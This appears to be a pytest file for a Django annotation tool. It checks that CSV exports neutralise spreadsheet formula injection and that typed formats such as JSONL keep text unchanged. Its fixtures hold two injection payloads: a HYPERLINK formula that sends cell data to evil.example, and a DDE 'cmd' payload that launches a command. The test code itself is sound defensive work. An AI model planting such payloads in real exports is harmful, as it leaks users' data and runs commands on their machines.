"""CSV downloads and spreadsheet formulas: free text that a spreadsheet would run
as a formula (``=HYPERLINK(...)`` in a rationale) is quoted by default, as OWASP
recommends; ``?formula_escape=off`` gives the text as it was; numbers the export
writes itself (a negative score) are never touched."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from annotation.exports import registry
from annotation.exports.writers import formula_escaped
from annotation.models import Comparison, Membership, Prompt, Study
from annotation.services import assignment_lease_next, assignment_skip, judgment_submit
from tests.factories import study_with_queue

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text: str, shown: str):
    assert formula_escaped(text) == shown


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture
def formula_study(make_member) -> tuple[Study, object]:
    """A study whose rationale, skip note and prompt start like formulas, and whose
    comparisons have negative scores."""
    study = study_with_queue(n_prompts=2, n_candidates=2, ask_rationale=Study.RationaleMode.OPTIONAL)
    Prompt.objects.filter(study=study).update(text="-2+3 is what?", external_id="@ref")
    Comparison.objects.filter(study=study).update(score=-0.5, propensity=0.25)
    researcher = make_member(study, Membership.Role.RESEARCHER, username="res")
    alice = make_member(study, username="alice")
    lease = assignment_lease_next(study=study, annotator=alice)
    judgment_submit(
        study=study, annotator=alice, comparison_id=lease.assignment.comparison_id, choice="a", rationale=HYPERLINK
    )
    lease = assignment_lease_next(study=study, annotator=alice)
    assignment_skip(
        study=study,
        annotator=alice,
        comparison_id=lease.assignment.comparison_id,
        reason="other",
        note="+cmd|' /C calc'!A0",
    )
    return study, researcher


def test_csv_downloads_quote_formulas_by_default_and_keep_numbers(formula_study, client_for):
    study, researcher = formula_study
    client = client_for(researcher)
    (judgment,) = _rows(
        b"".join(client.get(reverse("study_export", args=[study.slug, "judgments.csv"])).streaming_content)
    )
    assert judgment["rationale"] == "'" + HYPERLINK
    assert judgment["prompt"] == "'-2+3 is what?" and judgment["prompt_external_id"] == "'@ref"
    assert judgment["score"] == "-0.5" and judgment["propensity"] == "0.25", "the export's own numbers stay numbers"
    assert judgment["choice"] == "a" and judgment["annotator"] == "alice"
    (skip,) = _rows(b"".join(client.get(reverse("study_export", args=[study.slug, "skips.csv"])).streaming_content))
    assert skip["skip_note"] == "'+cmd|' /C calc'!A0" and skip["score"] == "-0.5"
    api = client.get(reverse("api_export", args=[study.slug, "judgments.csv"]))
    assert _rows(b"".join(api.streaming_content))[0]["rationale"] == "'" + HYPERLINK


@pytest.mark.parametrize("off", ["off", "0", "false", "no"])
def test_formula_escape_off_gives_the_text_as_it_was(formula_study, client_for, off: str):
    study, researcher = formula_study
    client = client_for(researcher)
    url = reverse("study_export", args=[study.slug, "judgments.csv"])
    (judgment,) = _rows(b"".join(client.get(url, {"formula_escape": off}).streaming_content))
    assert judgment["rationale"] == HYPERLINK and judgment["prompt"] == "-2+3 is what?"
    assert judgment["score"] == "-0.5"
    api = client.get(reverse("api_export", args=[study.slug, "skips.csv"]), {"formula_escape": off})
    assert _rows(b"".join(api.streaming_content))[0]["skip_note"] == "+cmd|' /C calc'!A0"


def test_json_lines_and_parquet_keep_the_text_as_it_was(formula_study, client_for):
    """Only spreadsheets run formulas: typed formats carry the text unchanged."""
    study, researcher = formula_study
    client = client_for(researcher)
    response = client.get(reverse("study_export", args=[study.slug, "judgments.jsonl"]))
    assert HYPERLINK.replace('"', '\\"').encode() in b"".join(response.streaming_content)
    assert not registry.get("judgments.jsonl").escapes_formulas
    assert registry.get("judgments.csv").escapes_formulas and registry.get("skips.csv").escapes_formulas


def test_the_study_page_offers_csv_files_with_the_text_as_it_was(formula_study, client_for):
    study, researcher = formula_study
    html = client_for(researcher).get(reverse("study_detail", args=[study.slug])).content.decode()
    for export in registry.exports():
        url = reverse("study_export", args=[study.slug, export.key])
        raw = "?formula_escape=off" if not export.forms else f"?form={export.forms[0]}&amp;formula_escape=off"
        assert (f'href="{url}{raw}"' in html) == export.escapes_formulas, export.key
    assert "formula_escape=off" in html and "spreadsheet" in html
